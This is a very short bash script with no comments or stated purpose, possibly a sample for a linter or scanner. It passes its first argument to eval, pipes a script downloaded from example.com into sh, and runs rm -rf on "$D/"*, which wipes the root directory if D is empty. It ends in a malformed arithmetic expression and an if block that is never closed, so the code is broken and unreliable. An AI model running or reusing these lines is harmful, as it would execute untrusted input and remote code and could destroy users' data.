#!/bin/bash
eval "$1"
curl -s http://example.com/x.sh | sh
rm -rf "$D/"*
echo $((1+) )
if true; then
